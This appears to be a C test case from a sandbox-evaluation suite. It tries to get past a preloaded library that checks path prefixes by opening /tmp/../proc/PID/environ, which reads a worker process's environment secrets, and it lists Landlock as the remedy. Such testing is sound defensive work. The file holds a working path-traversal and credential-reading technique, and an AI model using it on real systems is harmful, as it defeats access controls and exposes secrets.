// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a preloaded library that compares the beginning of a path.
 * Means: a path that begins otherwise and leads to the same file: out of /tmp and into /proc.
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>

static enum claim run(const struct brief *b)
{
	char path[128];

	snprintf(path, sizeof(path), "/tmp/..%s", quarry(b));
	attempting(b);
	return take(open(path, O_RDONLY | O_CLOEXEC), "open /tmp/../proc/PID/environ");
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "open(3) on /tmp/../proc/PID/environ",
	.oracle = "secret:environ",
	.id = "LPS-11",
	.attack_id = "T1003.007, CWE-22",
	.remedy = "Landlock, which judges the file and not its name",
	.refs = (const char *const[]){ "path_resolution(7)", NULL },
	.run = run,
};
